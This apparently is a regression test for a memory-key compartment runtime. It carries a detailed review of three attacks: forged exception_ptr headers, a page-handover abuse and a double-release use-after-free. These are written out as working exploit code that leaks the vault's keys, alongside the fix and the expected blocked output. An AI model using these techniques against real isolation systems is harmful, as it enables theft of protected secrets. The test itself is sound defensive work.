// Review 56, attacker model A (key-0 loads and stores, no race, no system
// call; the vault's API used as it is meant to be). The runtime's check
// before libstdc++'s exception_ptr entry points run with a compartment's
// rights (runtime/exceptions.c: own_word, check_own, live_record) asks
// only that the word names a page-aligned address in the compartment's
// heap, not named in its list of blocks given away, whose first bytes
// read as a live block's record (a constant magic, state live, a page
// multiple for its size). Those bytes are the compartment's own memory,
// but not only the runtime writes them: exception blocks come from the
// same heap as the compartment's malloc (heap.c, bh_heap_exc_alloc), and
// a compartment copies its callers' bytes into its heap all the time.
// "forged": the vault keeps caller data in a heap buffer behind an opaque
// handle (vault_note_new, vault_note_write: the handle is its address).
// main writes through it, at the first page boundary inside, a record
// and a libstdc++ header (count 0, destructor = steal, a function of the
// program's whose address is taken in asm, so no gate wraps it), and
// hands the vault an exception_ptr whose word names that header's object
// (review 50's API: vault_keep copies it, vault_drop lets go). The check
// passes; libstdc++ counts the forged header to 1 and back to 0 and calls
// steal with the vault's rights: it writes the vault's key out (ATTACK
// SUCCEEDED). No vault address is guessed, but one is learnt from a
// handle.
// "give", data only, no code pointer: the record's size says the block
// runs on to the vault's next heap pages (to the 64 KiB page where its
// exception blocks are, which a first exception main catches shows), and
// the vault raises the error to main (vault_raise: rethrow_exception).
// The check passes; the hand-over (bh_exception_arrives) finds the
// dependent's primary a live block of the vault's by the same test and
// gives main its pages, every page of the vault's heap in between
// (pkey_mprotect to key 0; the supervisor asks only that the list names
// it and the pages carry the vault's key). main, in its catch, reads the
// vault's session key (vault_open: malloc in the vault) there (ATTACK
// SUCCEEDED).
// "own": the uncounted reference that attacks-rev54-eptr-double-read.cpp
// names, with no handle and no address known in advance. The vault keeps
// an exception of its own and hands copies out in the caller's memory,
// and ends a handle in place when it is handed back (review 54's API).
// main copies a handle's word into another key-0 word (no reference) and
// hands both back: the second release passes the check (the vault's own
// live block) and counts the exception to 0; libstdc++ frees it while
// the vault still names it. Then main hands the vault messages to keep
// (vault_add_message: malloc and memcpy, the commonest thing a library
// does) of the freed block's size class, each starting with a record and
// a header (count 1, destructor steal); the vault's heap gives the freed
// block to one of them. The vault's own later release of its exception
// passes the check on main's bytes and calls steal with the vault's
// rights (ATTACK SUCCEEDED). The controls: "forged control" leaves the
// bytes zero and the check stops the process ("give control" too); "own
// control" hands back only the real handle and writes no record: nothing
// stolen.
// Seen in the guest (review 56, main at da646b5): "forged", "own" and
// "give" ATTACK SUCCEEDED 3 of 3 each; the controls as above 3 of 3.
// Suggested fix: decide "one of the compartment's own live blocks" from
// state only the runtime writes, not from bytes in the block: e.g. a
// table of the compartment's live exception blocks on its key (beside its
// list of given blocks, in the heap's metadata header), entered at
// allocation and removed at free, or exception blocks from an arena part
// that the compartment's malloc never hands out. That closes "forged"
// and "give" (the hand-over's size then comes from the runtime too);
// "own" also needs the uncounted reference closed: with a compartment's
// rights refuse an exception_ptr `this` (in _M_addref and _M_release)
// outside memory of the compartment's own key, so that no word the
// default domain can copy is ever counted (a handle handed out stays a
// copy the vault cannot be made to end twice), or count references per
// holder.
// Fixed (issue 11): which blocks are the compartment's own live ones, and
// how long, is now only in a table on its key in its heap's metadata
// area, which its malloc never hands out (struct bh_exc_list, written by
// the runtime under its lock): live_record, the hand-over, free and
// take-back ask the table, never the block's bytes. "forged" and "give"
// stop at the vault's first use of the forged word with the check's line
// (the forged header is in no entry), before libstdc++ runs. And with a
// compartment's rights _M_addref, _M_release and rethrow_exception refuse
// an exception_ptr whose `this` is outside the compartment's own memory
// (its data, stacks, heap less blocks it gave away): "own" stops at
// vault_error, the first copy into main's memory, with one line, so no
// word the default domain can copy is ever counted; its control stops
// there too (that API is refused now), and "own" after it is unreachable.
// REQUIRES: pku
// RUN: %bulkhead_clangxx -fpkey-compartments -O2 %s -o %t
// RUN: not %run %t forged control 2>&1 | FileCheck %s --check-prefix=CONTROL
// RUN: not %run %t own control 2>&1 | FileCheck %s --check-prefixes=CHECK,OWN
// RUN: not %run %t give control 2>&1 | FileCheck %s --check-prefix=CONTROL
// RUN: not %run %t forged 2>&1 | FileCheck %s --check-prefixes=CHECK,FORGED
// RUN: not %run %t own 2>&1 | FileCheck %s --check-prefixes=CHECK,OWN
// RUN: not %run %t give 2>&1 | FileCheck %s --check-prefixes=CHECK,FORGED
// CONTROL: note in the vault's heap
// CONTROL: bulkhead: error: compartment 'vault' took a std::exception_ptr to an exception it does not own
// FORGED: note in the vault's heap
// OWN: the vault keeps its exception
// CHECK-NOT: ATTACK SUCCEEDED
// FORGED: bulkhead: error: compartment 'vault' took a std::exception_ptr to an exception it does not own
// OWN: bulkhead: error: compartment 'vault' took a std::exception_ptr kept outside its own memory
// CHECK-NOT: ATTACK SUCCEEDED
#include <bulkhead.h>
#include <exception>
#include <new>
#include <typeinfo>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";
/* A std::exception_ptr in the vault's data, without a static destructor
 * (which the default domain would run). */
BULKHEAD_DATA(vault) alignas(std::exception_ptr) unsigned char
    vault_kept_bytes[sizeof(std::exception_ptr)];
#define vault_kept (*reinterpret_cast<std::exception_ptr *>(vault_kept_bytes))

struct E { /* trivial: its header has no destructor */
  int v;
};

/* Review 50's API: the vault keeps a copy of an error handed to it, and
 * lets go of it later. */
extern "C" BULKHEAD_ENTRY(vault) void vault_keep(std::exception_ptr *e) {
  new (vault_kept_bytes) std::exception_ptr(*e);
}
extern "C" BULKHEAD_ENTRY(vault) void vault_drop(void) {
  vault_kept.~exception_ptr();
}

/* Review 54's API: the vault keeps an error of its own, hands copies out
 * as opaque handles in the caller's memory, and ends a handle in place
 * when the caller hands it back. */
extern "C" BULKHEAD_ENTRY(vault) void vault_throw(int v) { throw E{v}; }
extern "C" BULKHEAD_ENTRY(vault) void vault_keep_own(void) {
  try {
    throw E{17};
  } catch (...) {
    new (vault_kept_bytes) std::exception_ptr(std::current_exception());
  }
}
extern "C" BULKHEAD_ENTRY(vault) void vault_error(std::exception_ptr *out) {
  new (out) std::exception_ptr(vault_kept);
}
extern "C" BULKHEAD_ENTRY(vault) void vault_forget(std::exception_ptr *p) {
  p->~exception_ptr();
}

/* A buffer in the vault's heap holding the caller's bytes (a message to
 * sign, a certificate to parse), behind an opaque handle. */
struct note {
  size_t len;
  unsigned char data[];
};
extern "C" BULKHEAD_ENTRY(vault) struct note *vault_note_new(size_t n) {
  struct note *h = (struct note *)calloc(1, sizeof *h + n);
  if (h)
    h->len = n;
  return h;
}
extern "C" BULKHEAD_ENTRY(vault) int vault_note_write(struct note *h,
                                                      size_t at,
                                                      const void *src,
                                                      size_t n) {
  if (at > h->len || n > h->len - at)
    return -1;
  memcpy(h->data + at, src, n);
  return 0;
}

/* Messages the vault keeps (to sign later), copied into its heap. */
BULKHEAD_DATA(vault) void *vault_msg[16];
BULKHEAD_DATA(vault) int vault_msgs;
extern "C" BULKHEAD_ENTRY(vault) int vault_add_message(const void *src,
                                                       size_t n) {
  if (vault_msgs == 16)
    return -1;
  void *m = malloc(n);
  if (!m)
    return -1;
  memcpy(m, src, n);
  vault_msg[vault_msgs++] = m;
  return 0;
}

/* The vault's session key, in its heap; and its error raised to the
 * caller (std::rethrow_exception of an exception_ptr handed to it). */
BULKHEAD_DATA(vault) char *vault_session;
extern "C" BULKHEAD_ENTRY(vault) void vault_open(void) {
  vault_session = (char *)malloc(64);
  strcpy(vault_session, "TOP-SECRET-VAULT-SESSION");
}
extern "C" BULKHEAD_ENTRY(vault) void vault_raise(std::exception_ptr *e) {
  std::rethrow_exception(*e);
}

static const char *volatile from = vault_key; /* key-0 words */

extern "C" __attribute__((used)) void steal(void *object) {
  (void)object;
  char msg[128] = "ATTACK SUCCEEDED: the vault's key in the program's "
                  "memory: ";
  size_t n = strlen(msg);
  for (int i = 0; i < 31 && from[i]; i++)
    msg[n++] = from[i];
  msg[n++] = '\n';
  (void)!write(1, msg, n);
  _exit(0);
}

/* The runtime's record (internal.h, struct bh_exc_record) and libstdc++'s
 * header (GCC 12): what a live exception block of the vault's starts
 * with, page-aligned. */
enum { PAGE = 4096, REC = 64, HDR = 128 };
static void forge(unsigned char *blk, int count, uint64_t size = PAGE) {
  memset(blk, 0, REC + HDR);
  uint64_t magic = 0x6365786568627562ull;
  uint32_t live = 1;
  memcpy(blk, &magic, 8);
  memcpy(blk + 8, &size, 8);
  memcpy(blk + 16, &live, 4);
  memcpy(blk + REC, &count, 4); /* referenceCount */
  uintptr_t p;
  __asm__("leaq steal(%%rip), %0" : "=r"(p));
  if (size == PAGE)
    memcpy(blk + REC + 24, &p, 8); /* exceptionDestructor */
  const std::type_info *t = &typeid(int);
  memcpy(blk + REC + 16, &t, 8); /* exceptionType */
}

/* The end of the writable mapping holding a. */
static uintptr_t mapping_end(uintptr_t a) {
  FILE *f = fopen("/proc/self/maps", "r");
  char line[512];
  uintptr_t lo, hi, end = 0;
  while (f && fgets(line, sizeof line, f))
    if (sscanf(line, "%lx-%lx", &lo, &hi) == 2 && lo <= a && a < hi)
      end = hi;
  if (f)
    fclose(f);
  return end;
}

/* Makes the bytes at page-aligned vault address r, inside note h, a live
 * exception block's (control: leaves them zero). */
static void place(struct note *h, uintptr_t r, int count, int control,
                  uint64_t size = PAGE) {
  unsigned char blk[REC + HDR];
  if (control)
    memset(blk, 0, sizeof blk);
  else
    forge(blk, count, size);
  if (vault_note_write(h, r - (uintptr_t)h->data, blk, sizeof blk)) {
    puts("the block is not inside the note");
    exit(1);
  }
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc < 2)
    return 2;
  int control = argc > 2 && !strcmp(argv[2], "control");
  if (!strcmp(argv[1], "give")) {
    /* A record that runs from the note to the vault's exception blocks
     * (where a first exception main catches shows them to be, the heap's
     * next 64 KiB page; their pages are given to main as the record's
     * are, which would not be the vault's key then): the vault rethrows
     * it to main, and the hand-over gives main all those pages, the
     * session key's among them. */
    struct note *h = vault_note_new(3 * PAGE);
    vault_open();
    uintptr_t end = 0;
    try {
      vault_throw(1);
    } catch (E &e) {
      end = (uintptr_t)&e & ~(uintptr_t)0xffff;
    }
    uintptr_t r = ((uintptr_t)h->data + PAGE - 1) & ~(uintptr_t)(PAGE - 1);
    printf("the vault's exceptions at %p\n", (void *)end);
    if (end <= r || end > mapping_end(r))
      end = r + PAGE;
    printf("note in the vault's heap at %p\n", (void *)h);
    place(h, r, 0, control, end - r);
    alignas(std::exception_ptr) unsigned char word[sizeof(std::exception_ptr)];
    uintptr_t object = r + REC + HDR;
    memcpy(word, &object, sizeof object);
    try {
      vault_raise(reinterpret_cast<std::exception_ptr *>(word));
    } catch (...) {
      for (const char *q = (const char *)r; q + 24 < (const char *)end; q++)
        if (!memcmp(q, "TOP-SECRET-VAULT-SESSION", 24)) {
          printf("ATTACK SUCCEEDED: the vault's session key read by main at "
                 "%p: %s\n",
                 (const void *)q, q);
          _exit(0);
        }
      puts("caught, no key found");
    }
    puts("nothing stolen");
    return 0;
  }
  if (!strcmp(argv[1], "forged")) {
    /* A word naming bytes of the vault's heap the caller chose. */
    struct note *h = vault_note_new(3 * PAGE);
    uintptr_t r = ((uintptr_t)h->data + PAGE - 1) & ~(uintptr_t)(PAGE - 1);
    printf("note in the vault's heap at %p\n", (void *)h);
    place(h, r, 0, control);
    alignas(std::exception_ptr) unsigned char word[sizeof(std::exception_ptr)];
    uintptr_t object = r + REC + HDR;
    memcpy(word, &object, sizeof object);
    vault_keep(reinterpret_cast<std::exception_ptr *>(word)); /* count 1 */
    vault_drop();                                             /* 0: steal */
    puts("nothing stolen");
    return 0;
  }
  /* own: the vault's own exception counted down to 0 by a copy of the
   * handle's word, then its pages given to a note. */
  vault_keep_own();
  puts("the vault keeps its exception");
  std::exception_ptr *slot = (std::exception_ptr *)malloc(sizeof *slot);
  std::exception_ptr *copy = (std::exception_ptr *)malloc(sizeof *copy);
  vault_error(slot); /* count 2 */
  uintptr_t object;
  memcpy(&object, slot, sizeof object);
  printf("the vault's exception at %p\n", (void *)object);
  vault_forget(slot); /* 1 */
  if (!control) {
    memcpy(copy, &object, sizeof object); /* no reference */
    vault_forget(copy);                   /* 0: freed, the vault names it */
  }
  /* Messages of the freed block's size class, each starting with a live
   * block's record and header (count 1): the vault's heap hands the freed
   * block out again among them. */
  static unsigned char msg[2 * PAGE - 256];
  if (!control)
    forge(msg, 1);
  for (int i = 0; i < 16; i++)
    vault_add_message(msg, sizeof msg);
  puts("messages in the vault's heap");
  vault_drop(); /* 1 -> 0 */
  puts("nothing stolen");
  return 0;
}
